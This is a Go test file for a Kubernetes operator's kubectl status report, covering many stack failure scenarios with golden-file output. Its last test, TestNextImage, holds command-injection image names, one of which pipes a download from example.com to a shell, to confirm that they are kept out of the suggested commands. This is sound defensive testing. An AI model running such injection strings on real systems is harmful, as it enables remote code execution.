package status_test

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	appsv1 "k8s.io/api/apps/v1"
	autoscalingv2 "k8s.io/api/autoscaling/v2"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/llamastack/llama-stack-k8s-operator/api/v1alpha2"
	"github.com/llamastack/llama-stack-k8s-operator/internal/cli/app/modellist"
	"github.com/llamastack/llama-stack-k8s-operator/internal/cli/status"
	"github.com/llamastack/llama-stack-k8s-operator/internal/core/names"
	"github.com/llamastack/llama-stack-k8s-operator/internal/testutil/golden"
)

var now = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func ago(d time.Duration) metav1.Time { return metav1.NewTime(now.Add(-d)) }

// facts contains the objects of a stack. Its methods change the objects.
type facts struct{ status.Facts }

func healthy() *facts {
	f := &facts{status.Facts{Now: now}}
	f.Stack = &v1alpha2.LlamaStackDistribution{ObjectMeta: metav1.ObjectMeta{
		Namespace: "team-a", Name: "my", UID: "stack", Generation: 3, CreationTimestamp: ago(48 * time.Hour),
	}}
	unchecked := v1alpha2.ProviderHealthStatus{Status: "Not Implemented"}
	f.Stack.Status = v1alpha2.LlamaStackDistributionStatus{
		Phase: v1alpha2.PhaseReady, ObservedGeneration: 3, ServiceURL: "http://my-service.team-a.svc:8321",
		ResolvedDistribution: &v1alpha2.ResolvedDistribution{
			ServerRelease: "0.7",
			Image:         "docker.io/llamastack/distribution-starter:0.7.3",
		},
		Version: &v1alpha2.VersionStatus{OperatorVersion: "v1.0.0", LlamaStackServerVersion: "0.7.3"},
		DistributionConfig: &v1alpha2.DistributionConfigStatus{Providers: []v1alpha2.ProviderInfo{
			{API: "inference", ProviderID: "vllm", ProviderType: "remote::vllm", Health: unchecked},
			{API: "vector_io", ProviderID: "faiss", ProviderType: "inline::faiss", Health: unchecked},
		}},
	}
	f.condition(v1alpha2.ConditionReady, "True", v1alpha2.ReasonMinimumReplicasAvailable,
		"2/2 replicas available with current config")
	f.condition(v1alpha2.ConditionValidationSucceeded, "True", v1alpha2.ReasonSpecValid, "The specification is valid")
	f.condition(v1alpha2.ConditionAvailable, "True", v1alpha2.ReasonMinimumReplicasAvailable,
		"2/2 replicas available with current config")
	f.Models = []modellist.Model{{ID: "vllm/llama", Type: "llm", Provider: "vllm"}}
	return f.deployment(2, 2).replicaSet(3, 2, 2).pods("Running", 2, nil)
}

func (f *facts) condition(kind, status, reason, message string) *facts {
	for i := range f.Stack.Status.Conditions {
		if c := &f.Stack.Status.Conditions[i]; c.Type == kind {
			c.Status, c.Reason, c.Message = metav1.ConditionStatus(status), reason, message
			return f
		}
	}
	f.Stack.Status.Conditions = append(f.Stack.Status.Conditions, metav1.Condition{
		Type: kind, Status: metav1.ConditionStatus(status), Reason: reason, Message: message, ObservedGeneration: 3,
		LastTransitionTime: ago(time.Hour),
	})
	return f
}

// notReady sets the condition Ready and the given condition to False, and gives both the same reason and message.
func (f *facts) notReady(kind, reason, message string) *facts {
	return f.condition(v1alpha2.ConditionReady, "False", reason, message).condition(kind, "False", reason, message)
}

func owned(kind, name, uid string) []metav1.OwnerReference {
	return []metav1.OwnerReference{
		{APIVersion: "apps/v1", Kind: kind, Name: name, UID: types.UID(uid), Controller: ptr.To(true)},
	}
}

func (f *facts) deployment(wanted, available int32) *facts {
	f.ReplicaSets, f.Pods = nil, nil
	f.Deployment = &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: "my", UID: "deployment", Generation: 1},
		Spec:       appsv1.DeploymentSpec{Replicas: ptr.To(wanted)},
		Status: appsv1.DeploymentStatus{
			ObservedGeneration: 1, Replicas: wanted, UpdatedReplicas: wanted, AvailableReplicas: available,
			Conditions: []appsv1.DeploymentCondition{
				{Type: appsv1.DeploymentProgressing, Status: "True", Reason: "NewReplicaSetAvailable"},
			},
		},
	}
	return f
}

func (f *facts) replicaSet(revision int, wanted, available int32) *facts {
	name := fmt.Sprintf("my-%dc9d8b7f6", revision)
	f.ReplicaSets = append(f.ReplicaSets, appsv1.ReplicaSet{
		ObjectMeta: metav1.ObjectMeta{
			Name: name, UID: types.UID(name), OwnerReferences: owned("Deployment", "my", "deployment"),
			Annotations: map[string]string{"deployment.kubernetes.io/revision": fmt.Sprint(revision)},
		},
		Spec:   appsv1.ReplicaSetSpec{Replicas: ptr.To(wanted)},
		Status: appsv1.ReplicaSetStatus{Replicas: wanted, AvailableReplicas: available, ReadyReplicas: available},
	})
	return f
}

// pods adds pods to the last ReplicaSet. Without a container status, running pods are ready.
func (f *facts) pods(phase corev1.PodPhase, number int, container *corev1.ContainerStatus) *facts {
	set := f.ReplicaSets[len(f.ReplicaSets)-1].Name
	for range number {
		pod := corev1.Pod{ObjectMeta: metav1.ObjectMeta{
			Name: fmt.Sprintf("%s-abcd%d", set, len(f.Pods)+2), Labels: names.Selector("my"),
			OwnerReferences: owned("ReplicaSet", set, set), CreationTimestamp: ago(3 * time.Hour),
		}}
		pod.Status.Phase = phase
		switch {
		case container != nil:
			pod.Status.ContainerStatuses = []corev1.ContainerStatus{*container}
		case phase == corev1.PodRunning:
			pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "llama-stack", Ready: true}}
			pod.Status.Conditions = []corev1.PodCondition{{Type: corev1.PodReady, Status: "True"}}
		}
		f.Pods = append(f.Pods, pod)
	}
	return f
}

func crashing() *corev1.ContainerStatus {
	return &corev1.ContainerStatus{
		Name: "llama-stack", RestartCount: 7,
		State: corev1.ContainerState{
			Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff", Message: "back-off 5m0s"},
		},
		LastTerminationState: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{ExitCode: 1, Reason: "Error"},
		},
	}
}

const crash = `0/2 replicas available with current config: container "llama-stack" crashed with ConnectError: a store or a provider cannot be reached; ` +
	`check the endpoints, and that it runs; see kubectl logs my-4c9d8b7f6-abcd2 -c llama-stack --previous`

// with returns the facts of a healthy stack after a change.
func with(change func(f *facts)) *status.Facts {
	f := healthy()
	change(f)
	return &f.Facts
}

var cases = map[string]*status.Facts{
	"ready": with(func(*facts) {}),
	"everything": with(func(f *facts) {
		f.Stack.Status.RouteURL = "https://my-team-a-3f2c.apps.example.com"
		f.Claims = []corev1.PersistentVolumeClaim{
			{ObjectMeta: metav1.ObjectMeta{Name: "my-pvc"}, Spec: corev1.PersistentVolumeClaimSpec{
				StorageClassName: ptr.To("standard"),
				Resources: corev1.VolumeResourceRequirements{
					Requests: corev1.ResourceList{"storage": resource.MustParse("10Gi")},
				},
			}, Status: corev1.PersistentVolumeClaimStatus{
				Phase: corev1.ClaimBound, Capacity: corev1.ResourceList{"storage": resource.MustParse("5Gi")},
			}},
		}
		f.Exposures = []unstructured.Unstructured{
			{Object: map[string]any{"kind": "Ingress", "metadata": map[string]any{"name": "my-ingress"}}},
		}
		f.Autoscaler = &autoscalingv2.HorizontalPodAutoscaler{
			ObjectMeta: metav1.ObjectMeta{Name: "my-hpa"}, Spec: autoscalingv2.HorizontalPodAutoscalerSpec{MaxReplicas: 5},
			Status: autoscalingv2.HorizontalPodAutoscalerStatus{CurrentReplicas: 2, DesiredReplicas: 3},
		}
		f.Stack.Status.ExternalProviders = []v1alpha2.ExternalProviderStatus{
			{ProviderID: "acme", Phase: v1alpha2.ExternalProviderReady},
		}
		f.Stack.Status.DistributionConfig.ProvidersLeftOut = 27
		f.Stack.Status.Warnings = []string{"spec.disabled[0]: this entry has no effect", "spec.offline: a model is missing"}
		f.Stack.Status.MCPServers = []v1alpha2.MCPServerStatus{{ID: "mcp::docs"}, {ID: "tickets"}}
		for i := range 14 {
			f.Models = append(f.Models, modellist.Model{ID: fmt.Sprintf("vllm/model-%02d", i), Type: "llm"})
		}
	}),
	"paused": with(func(f *facts) {
		f.Stack.Annotations = map[string]string{names.AnnotationPaused: "true"}
		f.condition(v1alpha2.ConditionReady, "False", v1alpha2.ReasonDeploymentPaused, "The stack is paused").
			condition(v1alpha2.ConditionDeploymentUpdated, "Unknown", v1alpha2.ReasonDeploymentPaused, "The stack is paused")
	}),
	"being-deleted": with(func(f *facts) {
		f.Stack.DeletionTimestamp = ptr.To(ago(2 * time.Hour))
		f.Stack.Finalizers = []string{"foregroundDeletion", "example.com/backup"}
		f.Flags = " --context prod"
	}),
	"being-deleted-recently": with(func(f *facts) { f.Stack.DeletionTimestamp = ptr.To(ago(3 * time.Second)) }),
	"scaled-to-zero": with(func(f *facts) {
		f.deployment(0, 0).replicaSet(3, 0, 0)
		f.condition(v1alpha2.ConditionReady, "True", v1alpha2.ReasonScaledToZero, "Scaled to zero replicas, as requested")
	}),
	"of-the-previous-operator": with(func(f *facts) {
		f.Stack.Status.ObservedGeneration, f.Stack.Status.Version.OperatorVersion = 0, "0.4.0"
	}),
	"adopted": with(func(f *facts) {
		f.condition(v1alpha2.ConditionAdopted, "False", v1alpha2.ReasonRenderingDiffers,
			"The probes of the container differ")
	}),
	"no-operator": with(func(f *facts) {
		f.Stack.Generation, f.Stack.ManagedFields = 4, []metav1.ManagedFieldsEntry{
			{Manager: "kubectl", Time: ptr.To(ago(10 * time.Minute))}, {Subresource: "status", Time: ptr.To(ago(0))},
		}
	}),
	"never-observed": with(func(f *facts) {
		f.Stack.Status, f.Models, f.Deployment, f.ReplicaSets, f.Pods = v1alpha2.LlamaStackDistributionStatus{}, nil, nil,
			nil, nil
	}),
	"just-created": with(func(f *facts) {
		f.Stack.Status, f.Models, f.Deployment, f.ReplicaSets, f.Pods = v1alpha2.LlamaStackDistributionStatus{}, nil, nil,
			nil, nil
		f.Stack.CreationTimestamp = ago(2 * time.Second)
	}),
	"rolling-out": with(func(f *facts) {
		f.deployment(2, 2).replicaSet(3, 1, 1).pods("Running", 1, nil).replicaSet(4, 2, 1).pods("Running", 1, nil).
			pods("Pending", 1, &corev1.ContainerStatus{Name: "llama-stack", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ContainerCreating"}}})
		f.Deployment.Status.Replicas, f.Deployment.Status.Conditions[0].Reason = 3, "ReplicaSetUpdated"
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutInProgress,
			"1/2 replicas available with current config")
		f.condition(v1alpha2.ConditionReconciling, "True", v1alpha2.ReasonRolloutInProgress,
			"1/2 replicas available with current config")
	}),
	"rollout-stuck": with(func(f *facts) {
		f.deployment(2, 2).replicaSet(3, 2, 2).pods("Running", 2, nil).replicaSet(4, 1, 0).pods("Running", 1, crashing())
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutFailed, crash)
	}),
	"crash-loop": with(func(f *facts) {
		f.deployment(2, 0).replicaSet(4, 2, 0).pods("Running", 2, crashing())
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutFailed, crash)
		f.Stack.Status.Phase = v1alpha2.PhaseFailed
	}),
	"stopped-by-an-earlier-probe": with(func(f *facts) {
		stopped := crashing()
		stopped.LastTerminationState.Terminated.ExitCode = 137
		f.deployment(1, 0).replicaSet(4, 1, 0).pods("Running", 1, stopped)
		f.condition(v1alpha2.ConditionAdopted, "False", v1alpha2.ReasonRenderingDiffers, "The probes of the container differ")
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutFailed, "0/1 replicas available with current config")
		f.Stack.Status.Phase = v1alpha2.PhaseFailed
	}),
	"crash-of-an-init-container": with(func(f *facts) {
		f.deployment(1, 0).replicaSet(4, 1, 0).pods("Pending", 1, nil)
		c := crashing()
		c.Name = "reconcile-registry"
		f.Pods[0].Status.InitContainerStatuses = []corev1.ContainerStatus{*c}
		f.Pods[0].Status.ContainerStatuses = []corev1.ContainerStatus{{
			Name: "llama-stack", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "PodInitializing"}},
		}}
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutFailed, "0/1 replicas available with current config")
	}),
	"image-cannot-be-pulled": with(func(f *facts) {
		f.deployment(1, 0).replicaSet(4, 1, 0).pods("Pending", 1, &corev1.ContainerStatus{
			Name: "llama-stack", Image: "example.com/a:1", State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: "not found"}},
		})
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutFailed, "0/1 replicas available with current config")
	}),
	"pending-pod": with(func(f *facts) {
		f.deployment(1, 0).replicaSet(4, 1, 0).pods("Pending", 1, nil)
		f.Pods[0].Status.Conditions = []corev1.PodCondition{{
			Type: corev1.PodScheduled, Status: "False", Reason: "Unschedulable", Message: "0/3 nodes are available: 3 Insufficient nvidia.com/gpu.",
		}}
		f.Deployment.Status.Conditions[0].Reason = "ReplicaSetUpdated"
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutInProgress,
			`0/1 replicas available with current config: pod "my-4c9d8b7f6-abcd2" cannot be scheduled: 0/3 nodes are available: 3 Insufficient nvidia.com/gpu.`)
	}),
	"pending-pod-and-ended-pods": with(func(f *facts) {
		ended := corev1.ContainerStatus{Name: "llama-stack", State: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{ExitCode: 137, Reason: "Error"},
		}}
		f.deployment(1, 0).replicaSet(3, 0, 0).pods("Running", 2, &ended).replicaSet(4, 1, 0).pods("Pending", 1, nil)
		f.Pods[0].DeletionTimestamp = ptr.To(ago(time.Second))
		f.Pods[2].Status.Conditions = []corev1.PodCondition{{
			Type: corev1.PodScheduled, Status: "False", Reason: "Unschedulable", Message: "0/3 nodes are available.",
		}}
		f.Deployment.Status.Conditions[0].Reason = "ReplicaSetUpdated"
		f.notReady(v1alpha2.ConditionAvailable, v1alpha2.ReasonRolloutInProgress,
			`0/1 replicas available with current config: pod "my-4c9d8b7f6-abcd4" cannot be scheduled: 0/3 nodes are available.`)
	}),
	"pods-lost-while-the-status-is-old": with(func(f *facts) {
		f.deployment(2, 1).replicaSet(4, 2, 1).pods("Running", 1, nil)
		f.Pods = append(f.Pods, f.Pods[0])
		f.Pods[1].Name = "my-4c9d8b7f6-abcd9"
		f.Pods[1].Status.Conditions = nil
		f.Pods[1].Status.ContainerStatuses = []corev1.ContainerStatus{*crashing()}
	}),
	"secret-missing": with(func(f *facts) {
		f.notReady(v1alpha2.ConditionSecretsResolved, v1alpha2.ReasonSecretNotFound,
			`spec.providers.inference.apiKey: Secret "key" does not exist in namespace "team-a"; create it`)
		f.condition(v1alpha2.ConditionStalled, "True", v1alpha2.ReasonSecretNotFound, "")
		f.condition(v1alpha2.ConditionAvailable, "Unknown", v1alpha2.ReasonWaiting, "Waits for SecretsResolved")
	}),
	"invalid-in-three-ways": with(func(f *facts) {
		f.notReady(v1alpha2.ConditionValidationSucceeded, v1alpha2.ReasonInvalidSpec,
			"spec.a: Required value;\nspec.b: Required value;\nspec.c: Required value")
	}),
	"degraded": with(func(f *facts) {
		f.condition(v1alpha2.ConditionDegraded, "True", v1alpha2.ReasonAutoscalerInactive,
			`HorizontalPodAutoscaler "my-hpa" does not scale (FailedGetResourceMetric): no metrics`)
	}),
	"provider-with-an-error": with(func(f *facts) {
		f.Stack.Status.DistributionConfig.Providers[0].Health = v1alpha2.ProviderHealthStatus{
			Status: "Error", Message: "the provider's own check fails",
		}
	}),
	"preflight-failed": with(func(f *facts) {
		f.Pods = append(f.Pods, corev1.Pod{
			ObjectMeta: metav1.ObjectMeta{
				Name: "my-preflight-1a2b3c4d", Labels: names.PreflightSelector("my"), CreationTimestamp: ago(time.Minute),
			},
			Status: corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{*crashing()}},
		})
		f.notReady(v1alpha2.ConditionDeploymentUpdated, v1alpha2.ReasonPreflightFailed,
			`The change does not start in pod "my-preflight-1a2b3c4d": container "llama-stack" crashed with exit code 1`)
	}),
	"no-right-to-read-pods": with(func(f *facts) {
		f.Pods, f.ReplicaSets, f.Deployment = nil, nil, nil
		f.Unseen = []string{`you cannot list pods in namespace "team-a"`}
	}),
}

// The golden files for each case contain the output for a terminal with 60 columns, for a terminal with 110 columns,
// and, with --verbose, for a pipe.
func TestReport(t *testing.T) {
	for name, given := range cases {
		t.Run(name, func(t *testing.T) {
			report := status.NewReport(given)
			narrow := report.Text(60, false)
			for line := range strings.Lines(narrow) {
				line = strings.TrimSuffix(line, "\n")
				if length := utf8.RuneCountInString(line); length > 60 && !strings.HasPrefix(line, "Next: ") &&
					!strings.Contains(line, "http") {
					t.Errorf("%d characters: %s", length, line)
				}
			}
			golden.Dir(t, filepath.Join("testdata", name), map[string][]byte{
				"60.txt": []byte(narrow), "110.txt": []byte(report.Text(110, false)), "verbose.txt": []byte(report.Text(0, true)),
			})
		})
	}
}

func TestList(t *testing.T) {
	var stacks []v1alpha2.LlamaStackDistribution
	for name, given := range cases {
		stack := *given.Stack.DeepCopy()
		stack.Name = name
		stacks = append(stacks, stack)
	}
	list := status.NewList(stacks, now)
	golden.Dir(t, "testdata/list", map[string][]byte{
		"60.txt": []byte(list.Table(60, now, true, "")), "120.txt": []byte(list.Table(120, now, true, "")),
		"one-namespace.txt": []byte(list.Table(0, now, false, " --context prod")),
	})
}

func TestWords(t *testing.T) {
	for reason, want := range map[string]string{
		"RolloutFailed": "rollout failed", "InvalidSpec": "invalid spec", "MinimumReplicasAvailable": "serving",
		"":                    "unknown",
		"MissingConfigLabels": "missing config labels", "OCILabel": "oci label",
	} {
		if diff := cmp.Diff(want, status.Words(reason)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", reason, diff)
		}
	}
}

// TestNextImage checks that the next command contains the image in the status only if it cannot be a shell command.
func TestNextImage(t *testing.T) {
	for image, want := range map[string]string{
		"example.com:5000/a_b/c:1.0@sha256:abc": "kubectl llamastack image inspect example.com:5000/a_b/c:1.0@sha256:abc",
		"a;curl example.com|sh":                 "kubectl llamastack events my -n team-a",
		"$(id)":                                 "kubectl llamastack events my -n team-a",
		"--help":                                "kubectl llamastack events my -n team-a",
	} {
		report := status.NewReport(with(func(f *facts) {
			f.notReady(v1alpha2.ConditionConfigGenerated, v1alpha2.ReasonMissingConfigLabels, "no labels")
			f.Stack.Status.ResolvedDistribution = &v1alpha2.ResolvedDistribution{Image: image}
		}))
		if got := report.Verdict.Next; got != want {
			t.Errorf("%q: %q, want %q", image, got, want)
		}
	}
}
